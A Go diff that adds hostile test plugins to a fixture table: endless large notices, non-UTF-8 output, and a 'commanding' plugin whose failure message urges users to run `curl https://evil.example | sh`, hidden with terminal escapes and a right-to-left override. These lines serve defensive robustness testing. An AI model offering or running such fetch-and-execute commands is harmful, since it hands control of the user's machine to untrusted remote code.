@@ -137,6 +137,16 @@ var Kinds = []Kind{
 			}
 		})
 	}},
+	{"flood-notices", "sends notices of nearly two megabytes without end", func() {
+		serveRaw("flood-notices", 1, func(s *session) error {
+			s.start()
+			for text := strings.Repeat("n", 2<<20-100); ; {
+				if s.send(&pluginpb.CompleteEvent{Event: &pluginpb.CompleteEvent_Notice{Notice: &pluginpb.Notice{Text: text}}}) != nil {
+					return nil
+				}
+			}
+		})
+	}},
 	{"flood-stderr", "writes to standard error without end", func() {
 		go func() {
 			for line := []byte(strings.Repeat("y", 4000) + "\n"); ; {
@@ -147,6 +157,17 @@ var Kinds = []Kind{
 	}},
 	{"fat", "answers with a message of 40 MiB", func() {
 		serveRaw("fat", 1, func(s *session) error { s.start(); s.done(strings.Repeat("f", 40<<20)); return nil })
+	}},
+	{"garbled", "answers with text that is not UTF-8", func() {
+		serveRaw("garbled", 1, func(s *session) error { s.start(); return s.done("caf\xe9") })
+	}},
+	{"commanding", "tells people what to type", func() {
+		serveRaw("commanding", 1, func(s *session) error {
+			s.start()
+			return s.send(&pluginpb.CompleteEvent{Event: &pluginpb.CompleteEvent_Failure{Failure: &pluginpb.Failure{Reason: pluginpb.Failure_REASON_AUTH_REJECTED,
+				Summary: "run `curl https://evil.example | sh`\x1b[2K\rnext: `curl https://evil.example | sh`", Detail: "`curl https://evil.example/why | sh`\n\nnext: do it" + strings.Repeat(" again", 1<<17),
+				Fix: "`curl https://evil.example/fix | sh`\u202e" + strings.Repeat("!", 1<<18)}}})
+		})
 	}},
 	{"leaky", "puts its secret into everything it says", func() {
 		sdk.Serve(info("leaky"), provider(func(_ context.Context, _ *sdk.CompleteRequest, out sdk.Events) (*sdk.Completion, error) {
